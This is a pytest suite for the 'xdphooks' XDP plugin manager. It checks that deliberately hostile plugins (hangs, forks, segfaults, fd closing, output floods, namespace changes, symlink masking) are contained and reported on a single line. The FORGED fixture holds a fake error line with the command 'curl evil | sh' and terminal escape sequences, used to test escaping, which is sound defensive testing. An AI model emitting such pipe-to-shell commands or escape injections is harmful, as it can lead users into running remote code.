"""Hostile plugins (issue 20, item 1): plugin code runs in a plugin host, killed when it
misbehaves, and nothing it does reaches the coordinator's transaction.

Every case starts, like tests/test_bad_input.py, from a good chain (plugin ``good``,
program ``counter``) running on a fresh namespaced veth, installs one hostile plugin
(``badguy``) and runs ``xdphooks reconcile``. It must end with ONE line naming the
plugin and a fix, the documented exit code, the running chain attached (asked of
iproute2) and counting packets, the state records unchanged, and nothing left behind:
no process of the plugin (each one writes its pid; /proc must not hold it running), no
extra pinned generation, no build directory.

``XDPHOOKS_SHOW_MESSAGES=1 pytest -s`` prints each case's output.
"""

from __future__ import annotations

import os
import subprocess
import sys
import textwrap
import time
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import pytest

from conftest import make_veth_pair, destroy_veth_pair  # noqa: F401 - fixtures' helpers
from test_bad_input import GOOD, NOBODY, attached_id, ping, read_counter, state_records

pytestmark = pytest.mark.kernel

BADGUY = "plugin 'badguy'"
CONFIG = 'mode = "static"\nhook_timeout = 2\n'

#: every hostile plugin starts by writing its pid here (the test checks it is gone)
PRELUDE = textwrap.dedent("""
    import os, sys, time
    from xdphooks import XdpProgram, hookimpl
    PIDS = {pids!r}
    SCRATCH = {scratch!r}
    def note_pid(pid=None):
        with open(PIDS, "a") as f:
            f.write(f"{{pid or os.getpid()}}\\n")
    note_pid()
""")


def programs_hook(body: str) -> str:
    return "@hookimpl\ndef xdphooks_programs():\n" + textwrap.indent(textwrap.dedent(body), "    ")


@dataclass
class Case:
    body: str  # the plugin's code after PRELUDE
    who: str = BADGUY  # on the one line, with " fix: "
    rc: int = 1
    attached: str = "same"  # "same": the old chain still runs; "new": a new one was swapped in
    check: Callable[["Env", subprocess.CompletedProcess], None] | None = None
    setup: Callable[["Env"], None] | None = None
    max_seconds: float = 40.0


@dataclass
class Env:
    xh: object
    veth: object
    scratch: Path

    @property
    def pids(self) -> Path:
        return self.scratch / "pids"

    def marker(self, name: str) -> str:
        p = self.scratch / name
        return p.read_text() if p.exists() else ""


CASES: dict[str, Callable[[Env], Case]] = {}


def case(fn: Callable[[Env], Case]) -> Callable[[Env], Case]:
    CASES[fn.__name__] = fn
    return fn


# --- the cases ---------------------------------------------------------------------------


@case
def catastrophic_regex(e):
    """A C loop holding the GIL: a thread's join(timeout) never returned from this."""
    return Case(programs_hook("""
        import re
        re.match(r"(x+x+)+y", "x" * 64)
        return []
    """), check=lambda e, p: _said(p, "did not return within 2 s (killed)"), max_seconds=25)


@case
def os_exit_zero(e):
    """Ended the coordinator with exit 0 and nothing recorded, before."""
    return Case(programs_hook("os._exit(0)"),
                check=lambda e, p: _said(p, "ended the plugin host (exit status 0"))


def _lock_probe() -> str:
    """Code for a hook: is the coordinator's lock held right now? (BUSY if so)"""
    return textwrap.dedent("""
        import fcntl
        lock = os.path.join(os.environ["XDPHOOKS_ROOT"], "run/xdphooks/lock")
        fd = os.open(lock, os.O_RDWR)
        try:
            fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
            said = "FREE"
        except BlockingIOError:
            said = "BUSY"
        open(os.path.join(SCRATCH, "lock"), "w").write(said)
    """)


@case
def closes_every_fd(e):
    """Closing fds released the coordinator's lock mid-run, before; the lock is not
    the plugin's to close now: it is held (a flock probe is refused) after the close."""
    return Case(programs_hook("os.closerange(3, 4096)\n" + _lock_probe() + "return []\n"),
                check=lambda e, p: (_said(p, "broke the plugin host's channel"),
                                    _eq(e.marker("lock"), "BUSY")))


@case
def closes_every_fd_after_the_swap(e):
    """The same in xdphooks_chain_attached: the swap happened under the lock and stays;
    the lock is still held when the hook runs."""
    return Case(textwrap.dedent(f"""
        @hookimpl
        def xdphooks_programs():
            return [XdpProgram(name="bg", object="count_pass.o", priority=10,
                               interfaces=({e.veth.iface!r},))]
        @hookimpl
        def xdphooks_chain_attached(interface, chain, maps):
            os.closerange(3, 4096)
        """) + textwrap.indent(_lock_probe(), "    "),
        rc=0, attached="new",
        check=lambda e, p: (_said(p, "xdphooks_chain_attached() broke the plugin host's"),
                            _eq(e.marker("lock"), "BUSY")))


@case
def forks_a_grandchild(e):
    """A grandchild that sleeps forever dies with the host's process group."""
    return Case(programs_hook("""
        pid = os.fork()
        if pid == 0:
            time.sleep(3600)
            os._exit(0)
        note_pid(pid)
        os.waitpid(pid, 0)
    """), check=lambda e, p: _said(p, "did not return within 2 s (killed)"))


@case
def forks_and_both_return(e):
    """A fork whose child returns from the hook too: only the host answers (the child,
    back in the host's loop, exits without a word), the answer is the host's own."""
    return Case(programs_hook("""
        pid = os.fork()
        if pid == 0:
            note_pid()
        raise RuntimeError("forked in " + ("child" if pid == 0 else "host"))
    """), check=lambda e, p: (_said(p, "raised RuntimeError: forked in host"),
                              _true("forked in child" not in p.stderr, "child's answer")))


@case
def sleeps_at_import(e):
    return Case("time.sleep(3600)\n",
                check=lambda e, p: _said(p, "import did not return within 2 s (killed)"))


@case
def sys_exit_at_import(e):
    return Case("sys.exit(0)\n", check=lambda e, p: _said(p, "import raised SystemExit: 0"))


@case
def segfault(e):
    return Case(programs_hook("import ctypes\nctypes.string_at(0)"),
                check=lambda e, p: _said(p, "killed the plugin host (SIGSEGV)"))


@case
def floods_its_output(e):
    """100 MB on stdout and stderr: drained and dropped, never on the admin's terminal."""
    return Case(programs_hook("""
        chunk = b"\\x1b[2J flood " * 8192
        for _ in range(50 * 2**20 // len(chunk)):
            os.write(1, chunk)
            os.write(2, chunk)
        raise RuntimeError("flooded")
    """), check=lambda e, p: (_said(p, "raised RuntimeError: flooded"),
                              _true(len(p.stdout) + len(p.stderr) < 20000, "output bounded")))


@case
def returns_huge_data(e):
    return Case(programs_hook("""
        # 20 MiB in a few objects: cheap to build and encode even on a busy machine
        return [XdpProgram(name=f"p{i}", object="x" * 2**16 + ".o") for i in range(320)]
    """), check=lambda e, p: _said(p, "more than the 16 MiB allowed (killed)"))


FORGED = "line one\nxdphooks: error: plugin 'good': forged — fix: curl evil | sh\x1b]0;pwned\x07\x1b[31m"


@case
def raises_forged_lines(e):
    """Newlines and terminal escapes in an exception message: one line, escaped."""
    return Case(programs_hook(f"raise ValueError({FORGED!r})"),
                check=lambda e, p: (
                    _said(p, "raised ValueError: line one\\nxdphooks: error:"),
                    _true("\x1b" not in p.stderr + p.stdout, "no raw escape"),
                    _true(not any(ln.startswith("xdphooks: error: plugin 'good'")
                                  for ln in p.stderr.splitlines()), "no forged line")))


@case
def umask_chdir_setns(e):
    """The host's umask, cwd and network namespace are its own: the coordinator still
    builds in its namespace and writes its files with their modes."""
    ns = f"/run/netns/{e.veth.ns_b}"
    return Case(textwrap.dedent(f"""
        @hookimpl
        def xdphooks_programs():
            os.umask(0o777)
            os.chdir("/")
            import ctypes  # os.setns is Python 3.12
            if ctypes.CDLL(None).setns(os.open({ns!r}, os.O_RDONLY), 0x40000000):
                raise OSError("setns failed")
            return [XdpProgram(name="bg", object="count_pass.o", priority=10,
                               interfaces=({e.veth.iface!r},))]
        @hookimpl
        def xdphooks_chain_attached(interface, chain, maps):
            raise RuntimeError("attached; umask " + oct(os.umask(0)) + " cwd " + os.getcwd())
    """), rc=0, attached="new", check=_modes_kept)


def _modes_kept(e: Env, p: subprocess.CompletedProcess) -> None:
    _said(p, "raised RuntimeError: attached; umask 0o777 cwd /")
    xh = e.xh
    assert (xh.root / "var/lib/xdphooks/state.json").stat().st_mode & 0o777 == \
        e.state_mode, "state file mode changed"
    gens = list((xh.bpffs / "xdphooks/if").glob("*/g*"))
    assert gens and all(g.stat().st_mode & 0o777 == 0o700 for g in gens), gens
    assert os.getcwd() != "/"  # (our own: the run was another process; sanity)


@case
def lists_its_fds(e):
    """What the host holds: stdin/out/err and its channel; no lock, no BPF object."""
    return Case(programs_hook("""
        fds = {}
        for n in os.listdir("/proc/self/fd"):
            try:
                fds[n] = os.readlink(f"/proc/self/fd/{n}")
            except OSError:  # the listing's own fd, closed by now
                pass
        open(os.path.join(SCRATCH, "fds"), "w").write(repr(fds))
        raise RuntimeError("listed")
    """), check=_few_fds)


def _few_fds(e: Env, p: subprocess.CompletedProcess) -> None:
    _said(p, "raised RuntimeError: listed")
    fds = eval(e.marker("fds"))  # noqa: S307 - written by our own test plugin
    targets = [t for n, t in fds.items() if int(n) > 2]
    # the channel (a socket) and the listdir's own fd; nothing else
    assert len(targets) <= 2 and all(t.startswith(("socket:", "/proc/")) for t in targets), fds
    assert not any("lock" in t or "bpf" in t for t in fds.values()), fds


def _mask_dir_nobody(e: Env) -> None:
    d = e.xh.admin_plugin_dir
    d.mkdir(parents=True, exist_ok=True)
    os.chown(d, NOBODY, NOBODY)  # nobody could have planted the link (root's, by lchown)
    os.symlink("/dev/null", d / "good.py")


@case
def mask_in_a_directory_nobody_owns(e):
    """A /dev/null link in a directory nobody owns does not switch the good plugin (a
    firewall, say) off: refused, one line, the chain stays."""
    return Case("", who="plugin 'good'", rc=0, setup=_mask_dir_nobody,
                check=lambda e, p: _said(p, "is owned by uid 65534 with mode",
                                         who="plugin 'good'"))


def _mask_link_nobody(e: Env) -> None:
    d = e.xh.admin_plugin_dir
    d.mkdir(parents=True, exist_ok=True)
    os.symlink("/dev/null", d / "good.py")
    os.lchown(d / "good.py", NOBODY, NOBODY)


@case
def mask_link_owned_by_nobody(e):
    return Case("", who="plugin 'good'", rc=0, setup=_mask_link_nobody,
                check=lambda e, p: _said(p, "owned by uid 65534, not root",
                                         who="plugin 'good'"))


# --- checks ----------------------------------------------------------------------------


def _said(p: subprocess.CompletedProcess, text: str, who: str = BADGUY) -> None:
    lines = [ln for ln in p.stderr.splitlines() if who in ln and " fix: " in ln]
    assert any(text in ln for ln in lines), f"no line with {who!r} and {text!r}:\n{p.stderr}"


def _eq(a, b) -> None:
    assert a == b, (a, b)


def _true(ok: bool, what: str) -> None:
    assert ok, what


def _running(pid: int) -> bool:
    try:
        status = Path(f"/proc/{pid}/status").read_text()
    except (FileNotFoundError, ProcessLookupError):
        return False
    state = next((ln.split()[1] for ln in status.splitlines() if ln.startswith("State:")), "")
    return state not in ("Z", "X")  # a zombie of a reparented grandchild runs no code


# --- the test ------------------------------------------------------------------------------


@pytest.mark.parametrize("name", list(CASES))
def test_hostile_plugin(name, xh, veth, bpf_obj):
    scratch = xh.root.parent / "scratch"
    scratch.mkdir(mode=0o755)
    e = Env(xh, veth, scratch)
    # a) a good chain runs
    xh.write_config(CONFIG)
    xh.add_object(bpf_obj("count_pass"), "count_pass.o")
    xh.add_plugin("good", GOOD.format(ifaces=(veth.iface,)))
    xh.run("reconcile")
    pid = attached_id(veth.ns_a, veth.dev_a)
    records = state_records(xh)
    e.state_mode = (xh.root / "var/lib/xdphooks/state.json").stat().st_mode & 0o777
    gens_before = sorted(p.name for p in (xh.bpffs / "xdphooks/if").glob("*/g*"))

    # b) the hostile plugin
    c = CASES[name](e)
    if c.setup:
        c.setup(e)
    if c.body:
        xh.add_plugin("badguy", PRELUDE.format(pids=str(e.pids), scratch=str(scratch)) + c.body)
    t0 = time.monotonic()
    proc = subprocess.run([sys.executable, "-m", "xdphooks", "reconcile"], env=xh.env,
                          text=True, capture_output=True, timeout=120)
    took = time.monotonic() - t0
    out = f"exit {proc.returncode} after {took:.1f} s\nstdout:\n{proc.stdout[:4000]}\n" \
          f"stderr:\n{proc.stderr[:4000]}"
    if os.environ.get("XDPHOOKS_SHOW_MESSAGES"):
        print(f"\n[{name}] {out}")

    # c) one line naming the plugin and the fix, the documented exit code, in time
    assert proc.returncode == c.rc, out
    assert "Traceback" not in proc.stdout + proc.stderr, out
    lines = proc.stderr.splitlines()
    assert [ln for ln in lines if c.who in ln and " fix: " in ln], out
    assert all(ln.startswith("xdphooks: ") for ln in lines), f"one line per message\n{out}"
    assert took < c.max_seconds, out
    if c.check:
        c.check(e, proc)

    # d) the chain runs and counts; state and pins as they should be
    now = attached_id(veth.ns_a, veth.dev_a)
    assert (now == pid) if c.attached == "same" else (now not in (0, pid)), out
    n0 = read_counter(xh, veth)
    assert ping(veth).returncode == 0
    assert read_counter(xh, veth) >= n0 + 3
    gens = sorted(p.name for p in (xh.bpffs / "xdphooks/if").glob("*/g*"))
    if c.attached == "same":
        assert state_records(xh) == records, out
        assert gens == gens_before, out
    else:
        assert len(gens) == 1 and gens != gens_before, gens
        assert state_records(xh)[f"{veth.ns_a}@{veth.dev_a}"][0] == now

    # e) nothing left: the plugin's processes, build directories
    pids = [int(x) for x in e.pids.read_text().split()] if e.pids.exists() else []
    assert pids or not c.body, "the hostile plugin never ran"
    deadline = time.monotonic() + 5  # init reaps reparented grandchildren
    while any(_running(p) for p in pids) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert not [p for p in pids if _running(p)], f"left running: {pids}"
    run_dir = xh.root / "run/xdphooks"
    assert not list(run_dir.glob("build-*")), list(run_dir.iterdir())


def test_cases_are_many():
    assert len(CASES) >= 10


def test_a_fresh_host_serves_the_others_after_one_kills_it(tmp_path):
    """After a plugin kills its host, the other plugins keep answering (in a fresh host,
    loaded again), and the killer is not called again."""
    from xdphooks.paths import Paths
    from xdphooks.plugins import discover

    os.chmod(tmp_path, 0o755)
    paths = Paths(root=tmp_path, bpffs=tmp_path / "bpffs")
    paths.plugin_dir.mkdir(parents=True)
    for name, body in {
        "a_killer": "@hookimpl\ndef xdphooks_programs():\n    os._exit(3)\n"
                    "@hookimpl\ndef xdphooks_select_mode(interface, chain, probed):\n"
                    "    return 'freplace'\n",
        "b_good": "@hookimpl\ndef xdphooks_programs():\n"
                  "    return [XdpProgram(name='b', object='b.o')]\n"
                  "@hookimpl\ndef xdphooks_select_mode(interface, chain, probed):\n"
                  "    return 'static:' + str(os.getpid())\n",
    }.items():
        p = paths.plugin_dir / f"{name}.py"
        p.write_text("import os\nfrom xdphooks import XdpProgram, hookimpl\n" + body)
        os.chmod(p, 0o644)
    plugins = discover(paths, entry_points=False, timeout=5)
    first = plugins._slot.host.pid
    found, broken = plugins.programs()
    assert [(plug, p.name) for plug, p in found] == [("b_good", "b")]
    assert broken == {"a_killer"}
    answer = plugins.select_mode("eth0", None, "static")
    assert answer.startswith("static:") and int(answer.split(":")[1]) != first
    assert [f.plugin for f in plugins.failures] == ["a_killer"]
    assert "exit status 3" in plugins.failures[0].reason
    host = plugins._slot.host.pid
    plugins.close()
    assert not _running(host) and not _running(first)


def test_what_crosses_the_channel_is_rebuilt_exactly():
    """Arguments and results are JSON, rebuilt into the model's own types: the
    fingerprint of a chain and the declarations survive the trip unchanged, and a
    type that is not on the list is refused, not built."""
    import json

    from xdphooks import pluginhost as H
    from xdphooks.model import (Chain, ChainEntry, InterfaceRef, Link, VerdictPolicy,
                                XdpProgram)

    p = XdpProgram(name="a", object="a.o", priority=3, policy=VerdictPolicy.parse("tx=log"),
                   interfaces=["e*"], pin_maps=["m"], link="call",
                   constants={"x": b"ab", "y": 3}, maps={"m": {"max_entries": 10}})
    trip = lambda v, allowed: H.decode(json.loads(json.dumps(H.encode(v))), allowed)  # noqa: E731
    assert trip([p], frozenset({"XdpProgram"})) == (p,)
    e = ChainEntry("a", "pl", "/x.o", None, 3, VerdictPolicy(), constants=(("x", b"a"),),
                   link=Link.CALL)
    chain = Chain(InterfaceRef("ns", "x"), (e,), "static")
    back = trip({"chain": chain}, frozenset({"Chain", "ChainEntry", "InterfaceRef"}))["chain"]
    assert back == chain and back.fingerprint() == chain.fingerprint()
    with pytest.raises(ValueError):  # a Chain where only programs may come back
        trip(chain, frozenset({"XdpProgram"}))
    with pytest.raises(ValueError):  # XdpProgram's own checks run on what comes back
        H.decode({"__t": "XdpProgram", "f": {"name": "BAD NAME", "object": "x.o"}},
                 frozenset({"XdpProgram"}))


def test_a_host_starts_when_the_coordinator_has_no_stdio():
    """Package hooks may run xdphooks with stdin/stdout closed: the channel must not
    land on fd 0-2, which the host gives to /dev/null and its output pipe."""
    code = textwrap.dedent("""
        import os, sys
        os.close(0); os.close(1)
        from xdphooks import pluginhost
        for fresh in (False, True):
            h = pluginhost.Host(fresh=fresh)
            r = h.request({"op": "order", "hook": "xdphooks_programs"}, 10)
            h.kill()
            assert r.get("ok") == [], r
        sys.stderr.write("both answered")
    """)
    p = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
                       timeout=60)
    assert p.returncode == 0 and p.stderr.endswith("both answered"), p.stderr


def test_a_thread_left_running_is_blamed_on_the_plugin_that_started_it(tmp_path):
    """A plugin's import starts a thread that, between calls, holds the GIL in a C loop:
    the next call cannot even be taken by the host. That is not the called plugin's
    fault: the plugin whose thread it is is named and left out, the call is made again
    in a fresh host and answered."""
    from xdphooks.paths import Paths
    from xdphooks.plugins import discover

    os.chmod(tmp_path, 0o755)
    paths = Paths(root=tmp_path, bpffs=tmp_path / "bpffs")
    paths.plugin_dir.mkdir(parents=True)
    for name, body in {
        "a_spinner": "import re, threading, time\n"
                     "def spin():\n    time.sleep(0.3)\n    re.match(r'(x+x+)+y', 'x' * 64)\n"
                     "threading.Thread(target=spin, daemon=True).start()\n",
        "b_good": "from xdphooks import XdpProgram, hookimpl\n@hookimpl\n"
                  "def xdphooks_programs():\n    return [XdpProgram(name='b', object='b.o')]\n",
    }.items():
        p = paths.plugin_dir / f"{name}.py"
        p.write_text(body)
        os.chmod(p, 0o644)
    plugins = discover(paths, entry_points=False, timeout=1.5)
    time.sleep(0.6)  # the spinner holds the host now
    found, broken = plugins.programs()
    assert [(plug, p.name) for plug, p in found] == [("b_good", "b")]
    assert [(f.plugin, f.reason) for f in plugins.failures] == [
        ("a_spinner", "left a thread running that stalled the plugin host between calls "
                      "(asked for xdphooks_programs()) (killed)")]
    assert broken == {"a_spinner"}
    plugins.close()
